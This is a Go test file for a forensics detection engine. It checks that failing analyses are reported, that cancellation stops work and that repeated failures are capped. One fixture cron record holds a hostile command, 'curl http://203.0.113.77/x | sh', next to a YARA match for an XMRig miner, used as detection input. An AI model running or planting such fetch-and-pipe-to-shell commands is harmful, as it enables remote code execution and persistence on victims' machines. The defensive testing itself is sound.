package detect

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"

	"icecore/forensics/model"
)

func twoClaims() *Input {
	y := model.Record{Kind: "yara.match", ID: "R-000001", Source: model.Source{Volume: "p1", Path: "/usr/local/bin/x", Inode: 12}}
	y.Add("rule", "XMRig_Binary")
	y.Add("level", "critical")
	y.Add("technique", "T1496.001")
	y.Add("file_type", "elf")
	s := model.Record{Kind: "cron.job", ID: "R-000002", Source: model.Source{Volume: "p1", Path: "/etc/cron.d/job", Inode: 13, Line: 1}}
	s.Add("command", "curl http://203.0.113.77/x | sh")
	s.Add("traits", "pipe_to_shell")
	return &Input{Records: []model.Record{y, s}}
}

// TestFailingAnalysis: an analysis that panics is named, once, and all the others run.
func TestFailingAnalysis(t *testing.T) {
	rules, err := Load(Options{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	rules.before = func(analysis string) {
		if len(names) == 0 || names[len(names)-1] != analysis {
			names = append(names, analysis)
		}
	}
	res, err := rules.Run(t.Context(), twoClaims())
	if err != nil || len(res.Failed) > 0 {
		t.Fatal(err, res.Failed)
	}
	want := len(res.Findings)
	if want < 2 || len(names) < 20 {
		t.Fatalf("%d findings of %d analyses", want, len(names))
	}
	lost := map[string]bool{"yara": true, "acts": true, "order": true} // they make these findings
	for _, name := range names {
		rules.before = func(analysis string) {
			if analysis == name {
				panic("in " + analysis)
			}
		}
		res, err := rules.Run(t.Context(), twoClaims())
		if err != nil {
			t.Fatal(err)
		}
		if n := len(res.Failed); n == 0 || n > 2 || res.Failed[0].File != name || !strings.Contains(res.Failed[0].Why, "internal error at guard_test.go") {
			t.Errorf("%s: it names %v", name, res.Failed)
		}
		if n := len(res.Findings); n >= want == lost[name] {
			t.Errorf("%s: %d findings, all together give %d", name, n, want)
		}
		if decides := name == "order" || name == "verdict"; res.Verdict.State == NoIndicators || decides && res.Verdict.State != Suspicious {
			t.Errorf("%s: the verdict is %q", name, res.Verdict.State)
		}
	}
}

// TestDetectionEnds: detection ends with its context, before the next analysis, and what
// still asks for files gets none.
func TestDetectionEnds(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	rules := &Rules{}
	var after []string
	asked := 0
	rules.before = func(analysis string) {
		if ctx.Err() != nil {
			after = append(after, analysis)
		}
		if analysis == "package_script" {
			cancel()
		}
	}
	in := twoClaims()
	in.Lookup = func(string, string) *FileFact {
		if ctx.Err() != nil {
			asked++
		}
		return nil
	}
	if _, err := rules.Run(ctx, in); !errors.Is(err, context.Canceled) {
		t.Errorf("it ended with %v", err)
	}
	if len(after) > 0 || asked > 0 {
		t.Errorf("after the end: analyses %v, %d questions", after, asked)
	}
}

// TestFailingOften: an analysis that fails for each record is named a few times, not once
// for each.
func TestFailingOften(t *testing.T) {
	rules := &Rules{before: func(analysis string) {
		if analysis == "sigma" {
			panic("over and over")
		}
	}}
	var in Input
	for i := range 20 {
		in.Records = append(in.Records, model.Record{ID: fmt.Sprint("R-", i), Kind: model.CronJob})
	}
	res, err := rules.Run(t.Context(), &in)
	if err != nil || len(res.Failed) != maxFailures {
		t.Errorf("%d failures are named: %v", len(res.Failed), err)
	}
}
